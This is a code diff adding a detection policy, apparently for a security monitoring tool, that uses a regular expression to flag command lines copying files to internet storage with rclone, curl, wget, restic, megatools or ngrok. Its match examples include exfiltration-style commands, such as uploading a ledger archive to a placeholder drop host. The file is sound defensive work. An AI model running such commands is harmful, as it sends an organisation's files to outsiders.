@@ -1,0 +1,41 @@
+import { defineBuiltinPolicy } from '../define-builtin-policy.ts';
+
+/** Programs that copy whole folders to storage of the Internet, with the words that make them send. */
+const SENDING =
+  '(^|[\\\\/\\s"])(rclone(\\.exe)?\\s[^|;]*\\b(copy|sync|move|copyto|moveto)\\b|mega-?put\\b|megatools\\s+put\\b|' +
+  'curl(\\.exe)?\\s[^|;]*(\\s-T\\s|--upload-file)|wget(\\.exe)?\\s[^|;]*--post-file|' +
+  'restic(\\.exe)?\\s[^|;]*\\bbackup\\b|ngrok(\\.exe)?\\s+(http|tcp)\\b)';
+
+export const policy = defineBuiltinPolicy({
+  key: 'copy-tool-to-outside',
+  version: 1,
+  name: 'Files sent with a copying tool',
+  description:
+    'A program on a device was started that copies files to storage of the Internet past the browser, ' +
+    'where no upload is seen.',
+  severity: 'MEDIUM',
+  title: 'Sent with a copying tool',
+  condition: {
+    all: [
+      { f: 'process.commandLine', op: 'matches~', v: SENDING },
+      { f: 'outcome', op: 'ne', v: 'failure' },
+    ],
+  },
+  groupBy: ['actor'],
+  window: null,
+  examples: {
+    match: [
+      { process: { commandLine: 'rclone copy C:\\Finance remote:backup --transfers 8' } },
+      { process: { commandLine: '/usr/bin/curl -s -T ledger.zip https://drop.example/' } },
+    ],
+    noMatch: [
+      { process: { commandLine: 'rclone listremotes' } },
+      { process: { commandLine: 'curl https://example.com/a.tar.gz' } },
+      { process: { commandLine: 'notepad rclone-copy.txt' } },
+      {
+        process: { commandLine: 'rclone sync /data remote:' },
+        outcome: 'failure',
+      },
+    ],
+  },
+});
